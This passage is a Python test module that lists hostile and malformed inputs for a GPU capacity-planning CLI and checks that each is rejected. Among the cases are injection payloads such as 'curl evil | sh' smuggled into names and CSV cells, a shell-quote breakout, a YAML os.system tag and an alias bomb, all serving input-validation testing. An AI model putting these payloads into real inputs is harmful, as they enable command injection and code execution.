"""A corpus of hostile or broken inputs for every command, as a table of cases.

Each case is files to create in an empty folder, the command line (``{d}`` is that folder), the exit code
the CLI contract promises (2 bad input, 0 when the input is odd but valid) and a piece of the one-line
error. Kinds: non-finite and huge numbers, booleans for numbers, encodings, YAML bombs and tags, keys given
twice, paths that are not regular files, bad CSV cells, bad config.json files, bad CLI options and output
targets that must not be written.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

REPO = Path(__file__).resolve().parents[2]
GPUS_CSV = REPO / "hardware" / "gpus.csv"
OFFERS_CSV = REPO / "pricing" / "offers.csv"
ENERGY_CSV = REPO / "pricing" / "energy.csv"
RESERVED_CSV = REPO / "pricing" / "reserved.csv"
OWNERSHIP_CSV = REPO / "pricing" / "ownership.csv"
CALIBRATION_CSV = REPO / "optimizer" / "serving" / "calibration.csv"
MEASURED_CSV = REPO / "tests" / "data" / "measured.csv"
KV_CSV = REPO / "tests" / "data" / "kv_capacity.csv"
CONFIG_JSON = REPO / "models" / "configs" / "llama-3.1-8b.json"

BASE: dict[str, Any] = {
    "workloads": [{
        "name": "chat", "model": "llama-3.1-8b", "weights": ["bf16"], "kv": ["bf16"], "input_tokens": 1000,
        "output_tokens": 200, "rate_rps": 2, "slo": {"ttft_ms": 2000, "tpot_ms": 50},
    }],
    "constraints": {"providers": ["aws"]},
}
JSON_OUT = ["--format", "json", "-o", "{d}/out.json"]


@dataclass
class Case:
    id: str
    argv: list[str]
    expect: int = 2
    needle: str = ""
    files: dict[str, bytes] = field(default_factory=dict)
    setup: Callable[[Path], None] | None = None
    outputs: tuple[str, ...] = ()  # files an exit-0 case must write (and the only new ones allowed)


def _yaml(data: Any) -> bytes:
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True).encode()


def _with(path: str, value: Any) -> dict[str, Any]:
    """BASE with the dotted ``path`` set (``w.`` = the first workload, ``c.`` = constraints)."""
    data = copy.deepcopy(BASE)
    scope, _, rest = path.partition(".")
    node = data["workloads"][0] if scope == "w" else data.setdefault("constraints", {})
    parts = rest.split(".")
    for part in parts[:-1]:
        node = node.setdefault(part, {})
    node[parts[-1]] = value
    return data


def _without(key: str) -> dict[str, Any]:
    data = copy.deepcopy(BASE)
    data["workloads"][0].pop(key)
    return data


def _csv_with(src: Path, column: str, value: str) -> bytes:
    """``src`` with ``column`` of its first data row set to ``value`` (quoted CSV-safe)."""
    import csv
    import io

    rows = list(csv.reader(io.StringIO(src.read_text(encoding="utf-8"))))
    rows[1][rows[0].index(column)] = value
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue().encode()


def _workload_commands(name: str, content: bytes, needle: str) -> list[Case]:
    """The same workload file through candidates, plan, sweep and procure."""
    w = "{d}/w.yaml"
    return [
        Case(f"candidates-{name}", ["candidates", w, *JSON_OUT], 2, needle, {"w.yaml": content}),
        Case(f"plan-{name}", ["plan", w, *JSON_OUT], 2, needle, {"w.yaml": content}),
        Case(f"sweep-{name}", ["sweep", w, "--vary", "slo.tpot_ms=40,60", *JSON_OUT], 2, needle,
             {"w.yaml": content}),
        Case(f"procure-{name}", ["procure", w, *JSON_OUT], 2, needle, {"w.yaml": content}),
    ]


BAD_VALUES: list[tuple[str, str, Any, str]] = [
    # (case name, dotted path, value, piece of the error)
    ("rate-inf", "w.rate_rps", float("inf"), "finite"),
    ("rate-minus-inf", "w.rate_rps", float("-inf"), "rate_rps"),
    ("rate-nan", "w.rate_rps", float("nan"), "finite"),
    ("rate-1e308", "w.rate_rps", 1e308, "less than or equal"),
    ("rate-1e16", "w.rate_rps", 1e16, "less than or equal"),
    ("rate-bool", "w.rate_rps", True, "rate_rps"),
    ("rate-string", "w.rate_rps", "12", "rate_rps"),
    ("rate-negative", "w.rate_rps", -1, "greater than or equal to 0.000001"),
    ("rate-subnormal", "w.rate_rps", 1e-320, "greater than or equal to 0.000001"),  # the solver saw no demand
    ("rate-exponent-without-dot", "w.rate_rps", "1e-3", "write 1.0e-3"),  # YAML 1.1 reads 1e-3 as text
    ("rate-list", "w.rate_rps", [1, 2], "rate_rps"),
    ("input-bool", "w.input_tokens", True, "input_tokens"),
    ("input-float", "w.input_tokens", 1.5, "input_tokens"),
    ("input-huge", "w.input_tokens", 10**25, "input_tokens"),
    ("input-zero", "w.input_tokens", 0, "greater than 0"),
    ("output-nan", "w.output_tokens", float("nan"), "output_tokens"),
    ("output-beyond-int64", "w.output_tokens", 2**70, "output_tokens"),
    ("context-bool", "w.max_context", False, "max_context"),
    ("context-below-prompt", "w.max_context", 100, "below input_tokens"),
    ("tpot-nan", "w.slo.tpot_ms", float("nan"), "finite"),
    ("tpot-inf", "w.slo.tpot_ms", float("inf"), "finite"),
    ("ttft-negative", "w.slo.ttft_ms", -5, "greater than 0"),
    ("ttft-bool", "w.slo.ttft_ms", True, "ttft_ms"),
    ("slo-extra-key", "w.slo.p99_ms", 5, "p99_ms"),
    ("unknown-workload-key", "w.rate", 5, "rate"),
    ("name-300-chars", "w.name", "n" * 300, "name"),
    ("name-nul", "w.name", "a\x00b", "printable"),
    ("name-newline-injection", "w.name", "x\nsetup: curl evil | sh", "printable"),
    ("name-ansi", "w.name", "\x1b[2J\x1b[31mred", "printable"),
    ("name-empty", "w.name", "", "name"),
    ("name-number", "w.name", 7, "name"),
    ("weights-empty", "w.weights", [], "weights"),
    ("weights-nested", "w.weights", [["bf16"]], "weights"),
    ("model-empty", "w.model", "", "model"),
    ("profile-inf", "w.rate_profile", [float("inf")] * 24, "rate_profile"),
    ("profile-short", "w.rate_profile", [1.0] * 3, "24"),
    ("budget-1e20", "c.budget_usd_per_hour", 1e20, "budget_usd_per_hour"),
    ("budget-nan", "c.budget_usd_per_hour", float("nan"), "budget_usd_per_hour"),
    ("budget-bool", "c.budget_usd_per_hour", True, "budget_usd_per_hour"),
    ("max-gpus-beyond-int64", "c.max_gpus.h100-sxm", 10**20, "max_gpus"),
    ("max-gpus-negative", "c.max_gpus.h100-sxm", -1, "max_gpus"),
    ("max-gpus-bool", "c.max_gpus.h100-sxm", True, "max_gpus"),
    ("utilization-2", "c.utilization", 2, "utilization"),
    ("utilization-nan", "c.utilization", float("nan"), "utilization"),
    ("tier-unknown", "c.tier", "cheap", "tier"),
    ("single-type-string", "c.single_gpu_type", "yes", "single_gpu_type"),
    ("spot-share-inf", "c.spot_max_share", float("inf"), "spot_max_share"),
    # a typo in a provider used to plan silently without that provider
    ("provider-typo", "c.providers", ["aws", "gpc"], "unknown provider 'gpc'"),
    ("provider-escape", "c.providers", ["\x1b[31mevil"], "unknown provider"),
    # a folder named like an engine option passed the "existing path" check and reached the launch command
    ("providers-empty", "c.providers", [], "empty list allows nothing"),
    ("gpus-empty", "c.gpus", [], "empty list allows nothing"),
    ("checkpoint-option", "w.checkpoint", "--trust-remote-code", "starts with '-'"),
    ("checkpoint-too-long", "w.checkpoint", "a/" * 3000, "longer than a path"),
    ("checkpoint-name-too-long", "w.checkpoint", "a" * 300, "field 'checkpoint'"),
]

BAD_FILES: list[tuple[str, bytes, str]] = [
    ("duplicate-key", b"workloads:\n  - name: a\n    name: b\n", "given twice"),
    ("duplicate-top-key", _yaml(BASE) + b"workloads: []\n", "given twice"),
    ("nested-10000", b"a: " + b"[" * 10_000 + b"]" * 10_000 + b"\n", "nested deeper"),
    ("nested-maps", "".join("  " * i + f"k{i}:\n" for i in range(200)).encode(), "nested deeper"),
    ("tag-set", b"workloads: !!set {a, b}\n", "not allowed"),
    ("tag-python", b"workloads: !!python/object/apply:os.system ['echo pwned']\n", "not allowed"),
    ("tag-binary", b"workloads: !!binary aGVsbG8=\n", "not allowed"),
    ("tag-custom", b"workloads: !include other.yaml\n", "not allowed"),
    ("alias-bomb", b"a: &a [x, x, x, x, x, x, x, x, x]\n"
                   + b"".join(f"{c}: &{c} [{', '.join(['*' + chr(ord(c) - 1)] * 9)}]\n".encode()
                              for c in "bcdefghijklmnopq"), "aliases are expanded"),
    ("alias-cycle", b"a: &a [*a]\n", "own anchor"),
    ("invalid-utf8", b"workloads:\n  - name: \xff\xfe\xfa\n", "not UTF-8"),
    # a "\\ud800" escape is valid YAML syntax but gives half a UTF-16 pair, which no text can hold
    ("surrogate-escape-name", _yaml(BASE).replace(b"name: chat", b'name: "\\ud800chat"'), "lone UTF-16 surrogate"),
    ("surrogate-escape-engine", _yaml(BASE).replace(b"model: llama-3.1-8b", b'model: llama-3.1-8b\n  engine: '
                                                                            b'"vllm\\udfff"'),
     "lone UTF-16 surrogate"),
    ("utf16", "workloads: []\n".encode("utf-16"), "UTF-16"),
    ("nul-bytes", b"workloads:\x00\x00\n", "NUL"),
    ("empty", b"", "expected a mapping"),
    ("scalar", b"42\n", "expected a mapping"),
    ("list", b"- a\n- b\n", "expected a mapping"),
    ("syntax", b"workloads: [\n", "not valid YAML"),
    ("tabs", b"workloads:\n\t- name: a\n", "not valid YAML"),
    ("no-workloads", b"workloads: []\n", "workloads"),
    ("both-profiles", _yaml({**BASE, "workloads": [{**_without("rate_rps")["workloads"][0],
                                                    "rate_profile": [1.0] * 24, "rate_profile_csv": "p.csv"}]}),
     "not both"),
]


def _paths() -> list[Case]:
    """Workload paths that are not regular files."""
    cases = []
    for cmd in ("candidates", "plan", "procure"):
        cases += [
            Case(f"{cmd}-path-dev-zero", [cmd, "/dev/zero", *JSON_OUT], 2, "not a regular file"),
            Case(f"{cmd}-path-folder", [cmd, "{d}/sub", *JSON_OUT], 2, "is a directory",
                 setup=lambda d: (d / "sub").mkdir()),
            Case(f"{cmd}-path-symlink-loop", [cmd, "{d}/loop", *JSON_OUT], 2, "symbolic links",
                 setup=lambda d: (d / "loop").symlink_to(d / "loop")),
            Case(f"{cmd}-path-missing", [cmd, "{d}/none.yaml", *JSON_OUT], 2, "not found"),
            Case(f"{cmd}-path-fifo", [cmd, "{d}/fifo", *JSON_OUT], 2, "not a regular file",
                 setup=lambda d: __import__("os").mkfifo(d / "fifo")),
            Case(f"{cmd}-path-too-big", [cmd, "{d}/big.yaml", *JSON_OUT], 2, "MiB limit",
                 setup=lambda d: _sparse(d / "big.yaml", 17 * 2**20)),
        ]
    return cases


def _sparse(path: Path, size: int) -> None:
    with open(path, "wb") as fh:
        fh.truncate(size)


def _profile_csvs() -> list[Case]:
    w = _yaml({**BASE, "workloads": [{**_without("rate_rps")["workloads"][0], "rate_profile_csv": "p.csv"}]})
    good = "hour,rate\n" + "".join(f"{h},{1 + h % 3}\n" for h in range(24))
    bad = {
        "profile-csv-inf": (good.replace("0,1\n", "0,inf\n", 1), "finite"),
        "profile-csv-nan": (good.replace("0,1\n", "0,nan\n", 1), "finite"),
        "profile-csv-1e308": (good.replace("0,1\n", "0,1e308\n", 1), "finite"),
        "profile-csv-bool": (good.replace("0,1\n", "0,true\n", 1), "number"),
        "profile-csv-hour-twice": (good.replace("1,2\n", "0,2\n", 1), "once each"),
        "profile-csv-utf16": (None, "UTF-16"),
        "profile-csv-no-header": ("".join(f"{h},1\n" for h in range(24)), "hour,rate"),
    }
    cases = []
    for name, (text, needle) in bad.items():
        content = "hour,rate\n0,1\n".encode("utf-16") if text is None else text.encode()
        cases.append(Case(f"plan-{name}", ["plan", "{d}/w.yaml", *JSON_OUT], 2, needle,
                          {"w.yaml": w, "p.csv": content}))
    cases.append(Case("plan-profile-csv-dev-zero", ["plan", "{d}/w.yaml", *JSON_OUT], 2, "not a regular file",
                      {"w.yaml": w}, setup=lambda d: (d / "p.csv").symlink_to("/dev/zero")))
    return cases


def _tables() -> list[Case]:
    """Corrupt cells and files in every swappable table."""
    cases = []
    gpu_cells = [("memory_gib", "inf"), ("memory_gib", "nan"), ("memory_gib", "1e308"), ("memory_bw_gb_s", "-1"),
                 ("memory_bw_gb_s", "true"), ("nvlink_domain", "99999999999999999999999"), ("link_gb_s", "inf"),
                 ("bf16_tflops", "1e400"), ("as_of", "2024-13"), ("as_of", "2020-09"), ("source", ""),
                 # subnormal: above 0, yet bandwidth-bound times overflowed to inf and NaN
                 ("memory_bw_gb_s", "1e-320"), ("bf16_tflops", "1e-320")]
    for column, value in gpu_cells:
        cases.append(Case(f"hardware-{column}-{value}", ["--hardware", "{d}/g.csv", "gpus", *JSON_OUT], 2,
                          column, {"g.csv": _csv_with(GPUS_CSV, column, value)}))
    offer_cells = [("on_demand_usd_per_hour", "inf"), ("on_demand_usd_per_hour", "nan"),
                   ("on_demand_usd_per_hour", "1e308"), ("on_demand_usd_per_hour", "-3"),
                   ("gpus_per_instance", "1e20"), ("gpus_per_instance", "0"), ("gpus_per_instance", "true"),
                   ("max_instances", "99999999999999999999999"), ("spot_usd_per_hour", "infinity"),
                   ("as_of", "2025-02-30"), ("source", ""), ("vcpus", "nan"), ("host_memory_gb", "-1")]
    for column, value in offer_cells:
        cases.append(Case(f"pricing-{column}-{value}", ["--pricing", "{d}/o.csv", "prices", *JSON_OUT], 2,
                          column, {"o.csv": _csv_with(OFFERS_CSV, column, value)}))
    energy_cells = [("value", "nan"), ("value", "1e400"), ("value", "0.5"), ("value", "true"), ("as_of", "2023"),
                    ("as_of", "2023-11"), ("source", "")]  # row 2 is the PUE, which must lie in [1, 10]
    for column, value in energy_cells:
        cases.append(Case(f"energy-{column}-{value}", ["--energy", "{d}/e.csv", "prices", *JSON_OUT], 2,
                          f"row 2, column '{column}'", {"e.csv": _csv_with(ENERGY_CSV, column, value)}))
    lines = OFFERS_CSV.read_text(encoding="utf-8").splitlines()
    twice = lines[1].replace(lines[1].split(",")[5], "999.5", 1)
    sky = "InstanceType,AcceleratorName,AcceleratorCount,Price,SpotPrice,Region\n"
    for name, row, needle in (("count-inf", "p5,H100,inf,10,5,us", "finite"), ("price-nan", "p5,H100,8,nan,5,us",
                              "finite"), ("price-1e308", "p5,H100,8,1e308,,us", "on_demand_usd_per_hour"),
                              ("count-huge", "p5,H100,1e20,10,,us", "gpus_per_instance"),
                              ("price-text", "p5,H100,8,ten,,us", "not a number")):
        cases.append(Case(f"skypilot-{name}", ["--pricing", "aws={d}/vms.csv", "prices", *JSON_OUT], 2, needle,
                          {"vms.csv": (sky + row + "\n").encode()}))
    names = [("pricing", OFFERS_CSV, "instance", "p5'; touch pwned; echo '\nsetup: curl evil | sh"),
             ("pricing", OFFERS_CSV, "provider", "aws\x1b[2J"), ("pricing", OFFERS_CSV, "region", "us\u202eeast"),
             ("hardware", GPUS_CSV, "id", "h100\x1b[31m"), ("hardware", GPUS_CSV, "vendor", "x" * 300)]
    for option, table, column, value in names:  # identifiers reach terminals, launch files and file names
        cmd = "prices" if option == "pricing" else "gpus"
        # a newline inside a quoted cell is refused before the cell is read (rows are numbered by line)
        needle = "a cell spanning lines" if "\n" in value else f"column '{column}': Value error, must be printable"
        cases.append(Case(f"{option}-{column}-hostile-name", [f"--{option}", "{d}/t.csv", cmd, *JSON_OUT], 2,
                          needle, {"t.csv": _csv_with(table, column, value)}))
    for name in ("\x1b[31maws", "../evil", "a b"):
        cases.append(Case(f"skypilot-provider-{name.encode().hex()}", ["--pricing", name + "={d}/vms.csv", "prices",
                                                                      *JSON_OUT], 2, "a provider name is",
                          {"vms.csv": (sky + "p5,H100,8,10,5,us\n").encode()}))
    cases.append(Case("pricing-duplicate-offer-other-price", ["--pricing", "{d}/o.csv", "prices", *JSON_OUT], 2,
                      "with a different price", {"o.csv": "\n".join([*lines[:2], twice, *lines[2:]]).encode() + b"\n"}))
    cal_cells = [("eta_mem", "nan"), ("eta_mem", "inf"), ("t_fixed_ms", "1e308"), ("mem_util", "true"),
                 ("as_of", "2026"), ("eta_mem", "1e-320"), ("layer_us", "1e308")]
    for column, value in cal_cells:
        cases.append(Case(f"calibration-{column}-{value}",
                          ["--calibration", "{d}/c.csv", "perf", "--model", "llama-3.1-8b", "--gpu", "h100-sxm",
                           *JSON_OUT], 2, column, {"c.csv": _csv_with(CALIBRATION_CSV, column, value)}))
    whole_files = {
        "invalid-utf8": (b"id,name\n\xff\xfe,\xfa\n", "not UTF-8"),
        "utf16": ("id,name\nx,y\n".encode("utf-16"), "UTF-16"),
        "empty": (b"", "missing"),
        "huge-field": (b"id,name\n" + b"x" * 200_000 + b",y\n", "not a readable CSV"),
        "nul": (b"id,name\n\x00\n", "NUL"),
        "too-many-rows": (b"id,name\n" + b"x\n" * 200_001, "rows"),
        "column-twice": (b"id,name,id\nx,y,z\n", "column 'id' given twice"),
    }
    for option, cmd in (("--hardware", "gpus"), ("--pricing", "prices"), ("--reserved", "prices"),
                        ("--ownership", "prices"), ("--energy", "prices")):
        for name, (content, needle) in whole_files.items():
            cases.append(Case(f"{option[2:]}-{name}", [option, "{d}/t.csv", cmd, *JSON_OUT], 2, needle,
                              {"t.csv": content}))
        cases.append(Case(f"{option[2:]}-dev-zero", [option, "/dev/zero", cmd, *JSON_OUT], 2, "not a regular file"))
        cases.append(Case(f"{option[2:]}-folder", [option, "{d}", cmd, *JSON_OUT], 2, ""))
    # a misspelt optional column was dropped without a word: the GPU had no FP4 rate, the offer no spot price
    misspelt = {"hardware": (GPUS_CSV, "gpus", "fp4_tflops", "fp4_tflop"),
                "pricing": (OFFERS_CSV, "prices", "spot_usd_per_hour", "spot_usd_hour"),
                "reserved": (RESERVED_CSV, "prices", "reserved_3y_usd_per_hour", "reserved_3yr_usd_per_hour"),
                "ownership": (OWNERSHIP_CSV, "prices", "hosting_usd_per_month", "hosting_usd_month"),
                "energy": (ENERGY_CSV, "prices", "unit", "units")}
    for option, (src, cmd, column, typo) in misspelt.items():
        lines = src.read_text(encoding="utf-8").splitlines(keepends=True)
        cases.append(Case(f"{option}-misspelt-column", [f"--{option}", "{d}/t.csv", cmd, *JSON_OUT], 2,
                          f"unknown column '{typo}'", {"t.csv": (lines[0].replace(column, typo)
                                                                   + "".join(lines[1:])).encode()}))
    bom = b"\xef\xbb\xbf"
    cases += [
        Case("hardware-bom-accepted", ["--hardware", "{d}/g.csv", "gpus", *JSON_OUT], 0, "",
             {"g.csv": bom + GPUS_CSV.read_bytes()}, outputs=("out.json",)),
        Case("pricing-bom-accepted", ["--pricing", "{d}/o.csv", "prices", *JSON_OUT], 0, "",
             {"o.csv": bom + OFFERS_CSV.read_bytes()}, outputs=("out.json",)),
        Case("calibration-bom-accepted", ["--calibration", "{d}/c.csv", "perf", "--model", "llama-3.1-8b",
                                          "--gpu", "h100-sxm", *JSON_OUT], 0, "",
             {"c.csv": bom + CALIBRATION_CSV.read_bytes()}, outputs=("out.json",)),
        Case("workload-bom-accepted", ["candidates", "{d}/w.yaml", *JSON_OUT], 0, "",
             {"w.yaml": bom + _yaml(BASE)}, outputs=("out.json",)),
        Case("measured-bom-accepted", ["validate", "{d}/m.csv", "--no-loso", *JSON_OUT], 0, "",
             {"m.csv": bom + b"".join(MEASURED_CSV.read_bytes().splitlines(keepends=True)[:41])},
             outputs=("out.json",)),  # the header and 40 rows: the BOM is what is tested, not the whole set
    ]
    return cases


def _configs() -> list[Case]:
    """config.json files given as --model PATH."""
    cfg = json.loads(CONFIG_JSON.read_text(encoding="utf-8"))
    text = CONFIG_JSON.read_text(encoding="utf-8")
    bad = {
        "config-nan": (text.replace('"hidden_size": 4096', '"hidden_size": NaN'), "hidden_size"),
        "config-infinity": (text.replace('"hidden_size": 4096', '"hidden_size": Infinity'), "hidden_size"),
        "config-duplicate-key": (text.replace('"hidden_size": 4096', '"hidden_size": 4096, "hidden_size": 8'),
                                 "given twice"),
        "config-1e9-layers": (json.dumps({**cfg, "num_hidden_layers": 10**9}), "num_hidden_layers"),
        "config-bool-layers": (json.dumps({**cfg, "num_hidden_layers": True}), "num_hidden_layers"),
        "config-float-heads": (json.dumps({**cfg, "num_attention_heads": 32.5}), "num_attention_heads"),
        "config-huge-vocab": (json.dumps({**cfg, "vocab_size": 2**80}), "vocab_size"),
        "config-deep": ("[" * 100_000 + "]" * 100_000, "nested"),
        "config-not-json": ("hidden_size = 4096", "not valid JSON"),
        "config-surrogate": (text.replace('"llama"', '"llama\\ud800"', 1), "lone UTF-16 surrogate"),
        "config-list": ("[1, 2]", "JSON object"),
    }
    cases = []
    for name, (content, needle) in bad.items():
        for cmd in (["memory", "--model", "{d}/m.json", "--context", "100"],
                    ["perf", "--model", "{d}/m.json", "--gpu", "h100-sxm"]):
            cases.append(Case(f"{cmd[0]}-{name}", [*cmd, *JSON_OUT], 2, needle, {"m.json": content.encode()}))
    cases += [
        Case("memory-config-utf16", ["memory", "--model", "{d}/m.json", "--context", "1", *JSON_OUT], 2, "UTF-16",
             {"m.json": text.encode("utf-16")}),
        Case("memory-config-dev-zero", ["memory", "--model", "/dev/zero", "--context", "1", *JSON_OUT], 2,
             "not a regular file"),
        Case("memory-config-folder-without-config", ["memory", "--model", "{d}/cfg", "--context", "1", *JSON_OUT],
             2, "not found", setup=lambda d: (d / "cfg").mkdir()),
        Case("memory-config-bom-accepted", ["memory", "--model", "{d}/m.json", "--context", "100", *JSON_OUT], 0,
             "", {"m.json": b"\xef\xbb\xbf" + text.encode()}, outputs=("out.json",)),
    ]
    return cases


def _options() -> list[Case]:
    m = ["memory", "--model", "llama-3.1-8b", "--context", "100"]
    p = ["perf", "--model", "llama-3.1-8b", "--gpu", "h100-sxm"]
    w = "{d}/w.yaml"
    files = {"w.yaml": _yaml(BASE)}
    bad: list[tuple[str, list[str], str]] = [
        ("memory-context-nan", ["memory", "--model", "llama-3.1-8b", "--context", "nan"], "--context"),
        ("memory-context-huge", ["memory", "--model", "llama-3.1-8b", "--context", "99999999999999999999"],
         "--context"),
        ("memory-batch-zero", [*m, "--batch", "0"], "--batch"),
        ("prices-provider-typo", ["prices", "--provider", "gpc"], "did you mean 'gcp'"),
        ("gpus-vendor-typo", ["gpus", "--vendor", "nvdia"], "unknown vendor 'nvdia'"),
        ("memory-gpus-negative", [*m, "--gpus", "-8"], "--gpus"),
        ("memory-lora-rank-zero", [*m, "--mode", "lora", "--lora-rank", "0"], "--lora-rank"),
        ("memory-overhead-nan", [*m, "--overhead-fraction", "nan"], "--overhead-fraction"),
        ("memory-overhead-inf", [*m, "--overhead-fraction", "inf"], "--overhead-fraction"),
        ("memory-mode-bogus", [*m, "--mode", "bogus"], "--mode"),
        ("memory-zero-stage-4", [*m, "--zero", "4"], "--zero"),
        ("perf-tpot-nan", [*p, "--tpot-ms", "nan"], "--tpot-ms"),
        ("perf-tpot-negative", [*p, "--tpot-ms", "-5"], "--tpot-ms"),
        ("perf-tpot-inf", [*p, "--tpot-ms", "inf"], "--tpot-ms"),
        ("perf-utilization-one", [*p, "--utilization", "1"], "--utilization"),
        ("perf-utilization-nan", [*p, "--utilization", "nan"], "--utilization"),
        ("perf-tp-zero", [*p, "--tp", "0"], "--tp"),
        ("perf-input-negative", [*p, "--input", "-1"], "--input"),
        ("perf-batch-huge", [*p, "--batch", "1e9"], "--batch"),
        ("perf-format-bogus", [*p, "-o", "{d}/out.json", "--format", "xml"], "--format"),
        ("plan-budget-nan", ["plan", w, "--budget-usd-per-hour", "nan"], "--budget-usd-per-hour"),
        ("plan-budget-inf", ["plan", w, "--budget-usd-per-hour", "inf"], "--budget-usd-per-hour"),
        ("plan-budget-negative", ["plan", w, "--budget-usd-per-hour", "-5"], "--budget-usd-per-hour"),
        ("plan-budget-1e20", ["plan", w, "--budget-usd-per-hour", "1e20"], "--budget-usd-per-hour"),
        ("plan-time-limit-zero", ["plan", w, "--time-limit", "0"], "--time-limit"),
        ("plan-time-limit-nan", ["plan", w, "--time-limit", "nan"], "--time-limit"),
        ("plan-tier-bogus", ["plan", w, "--tier", "free"], "--tier"),
        ("plan-objective-bogus", ["plan", w, "--objective", "cheapest"], "--objective"),
        ("sweep-workers-zero", ["sweep", w, "--vary", "rate_rps=1,2", "--workers", "0"], "--workers"),
        ("sweep-workers-negative", ["sweep", w, "--vary", "rate_rps=1,2", "--workers", "-3"], "--workers"),
        ("sweep-vary-malformed", ["sweep", w, "--vary", "rate_rps"], "KEY=v1"),
        ("sweep-vary-twice", ["sweep", w, "--vary", "rate_rps=1", "--vary", "rate_rps=2"], "given twice"),
        ("sweep-vary-empty-value", ["sweep", w, "--vary", "rate_rps=1,,2"], "empty value"),
        ("sweep-vary-python-tag", ["sweep", w, "--vary", "rate_rps=!!python/object:os.system"], "not allowed"),
        ("sweep-vary-inf", ["sweep", w, "--vary", "rate_rps=.inf"], "finite"),
        ("sweep-vary-bool", ["sweep", w, "--vary", "rate_rps=true"], "rate_rps"),
        ("sweep-vary-unknown-workload", ["sweep", w, "--vary", "nope/rate_rps=1"], "no workload named"),
        ("sweep-time-limit-negative", ["sweep", w, "--vary", "rate_rps=1", "--time-limit", "-1"], "--time-limit"),
        ("procure-months-zero", ["procure", w, "--months", "0"], "--months"),
        ("procure-months-huge", ["procure", w, "--months", "99999"], "--months"),
        ("procure-power-nan", ["procure", w, "--power-utilization", "nan"], "--power-utilization"),
        ("procure-power-two", ["procure", w, "--power-utilization", "2"], "--power-utilization"),
        ("sweep-grid-explosion", ["sweep", w, "--vary", "rate_rps=" + ",".join(map(str, range(1, 201))),
                                  "--vary", "slo.tpot_ms=" + ",".join(map(str, range(1, 201)))], "40,000 points"),
        ("sweep-vary-deep", ["sweep", w, "--vary", "rate_rps=" + "[" * 5000 + "]" * 5000], "nested"),
        ("memory-model-nul", ["memory", "--model", "a\x00b.json", "--context", "10"], "null"),
        ("fit-context-nan", ["fit", "--model", "llama-3.1-8b", "--context", "nan"], "--context"),
        ("fit-lora-rank-zero", ["fit", "--model", "llama-3.1-8b", "--mode", "lora", "--lora-rank", "0"],
         "--lora-rank"),
        ("fit-gpus-zero", ["fit", "--model", "llama-3.1-8b", "--gpus", "0"], "--gpus"),
        ("fit-micro-batch-negative", ["fit", "--model", "llama-3.1-8b", "--micro-batch", "-1"], "--micro-batch"),
        ("fit-overhead-inf", ["fit", "--model", "llama-3.1-8b", "--overhead-fraction", "inf"], "--overhead-fraction"),
        ("fit-model-dev-zero", ["fit", "--model", "/dev/zero"], "not a regular file"),
        ("fit-plot-dev-null", ["fit", "--model", "llama-3.1-8b", "--plot", "/dev/null"], "not a regular file"),
        ("fit-plot-not-png", ["fit", "--model", "llama-3.1-8b", "--plot", "heat.txt"], "writes a PNG image"),
        ("sweep-plot-not-png", ["sweep", w, "--vary", "rate_rps=1", "--plot", "s.jpg"], "writes a PNG image"),
        ("procure-plot-not-png", ["procure", w, "--plot", "p"], "writes a PNG image"),
        ("simulate-plot-dev-null", [*SIM, "--rate", "1", "--plot", "/dev/null"], "not a regular file"),
        ("unknown-command", ["frobnicate"], "No such command"),
        ("unknown-option", ["models", "--colour"], "No such option"),
    ]
    return [Case(f"option-{name}", argv if "-o" in argv else [*argv, *JSON_OUT], 2, needle, files)
            for name, argv, needle in bad]


def _measurements() -> list[Case]:
    cells = [("value", "inf"), ("value", "nan"), ("value", "-1"), ("value", "1e308"), ("value", "true"),
             ("tp", "1e20"), ("batch", "0"), ("input", "nan"), ("metric", "speed"), ("as_of", "2025-06"),
             ("value", "1e-320"), ("engine_version", "abc"), ("engine_version", "nan")]  # were internal errors
    cases = []
    for column, value in cells:
        content = _csv_with(MEASURED_CSV, column, value)
        cases.append(Case(f"validate-{column}-{value}", ["validate", "{d}/m.csv", *JSON_OUT], 2, column,
                          {"m.csv": content}))
        cases.append(Case(f"calibrate-{column}-{value}", ["calibrate", "{d}/m.csv", "-o", "{d}/cal.csv"], 2,
                          column, {"m.csv": content}))
    cases += [
        Case("validate-dev-zero", ["validate", "/dev/zero", *JSON_OUT], 2, "not a regular file"),
        Case("validate-header-only", ["validate", "{d}/m.csv", *JSON_OUT], 2, "no measurement rows",
             {"m.csv": MEASURED_CSV.read_text(encoding="utf-8").splitlines()[0].encode() + b"\n"}),
        Case("calibrate-output-dev-null", ["calibrate", str(MEASURED_CSV), "-o", "/dev/null"], 2,
             "not a regular file"),
    ]
    lines = MEASURED_CSV.read_text(encoding="utf-8").splitlines()
    cases.append(Case("validate-row-twice", ["validate", "{d}/m.csv", *JSON_OUT], 2, "repeats row 2",
                      {"m.csv": "\n".join([*lines[:3], lines[1]]).encode() + b"\n"}))
    typo = "\n".join([lines[0].replace(",percentile,", ",percentil,"), *lines[1:3]]).encode() + b"\n"
    kv_lines = KV_CSV.read_text(encoding="utf-8").splitlines()
    cases += [  # a misspelt optional column was ignored: the rows read as means, at the default settings
        Case("validate-misspelt-column", ["validate", "{d}/m.csv", *JSON_OUT], 2, "unknown column 'percentil'",
             {"m.csv": typo}),
        Case("calibrate-misspelt-column", ["calibrate", "{d}/m.csv", "-o", "{d}/cal.csv"], 2,
             "unknown column 'percentil'", {"m.csv": typo}),
        Case("validate-kv-misspelt-column", ["validate-kv", "{d}/k.csv", *JSON_OUT], 2, "unknown column 'mem_frac'",
             {"k.csv": "\n".join([kv_lines[0].replace("mem_fraction", "mem_frac"), kv_lines[1]]).encode()}),
        Case("validate-kv-header-only", ["validate-kv", "{d}/k.csv", *JSON_OUT], 2, "no rows",
             {"k.csv": kv_lines[0].encode() + b"\n"}),
    ]
    return cases


SIM = ["simulate", "--model", "llama-3.1-8b", "--gpu", "h100-sxm", "--input", "200", "--output", "50"]
TRACE = "arrival_s,input_tokens,output_tokens\n" + "".join(f"{i / 10},100,20\n" for i in range(20))
HISTOGRAM = "input_tokens,output_tokens,probability\n100,20,0.5\n200,40,0.5\n"


def _simulate() -> list[Case]:
    """simulate: its options, and the trace and length-histogram CSVs it reads."""
    run = [*SIM, "--rate", "5", "--requests", "20"]
    options = {  # option values that once ran (or crashed in numpy) instead of being refused
        "rate-inf": (["--rate", "inf"], "--rate"), "rate-1e308": (["--rate", "1e308"], "--rate"),
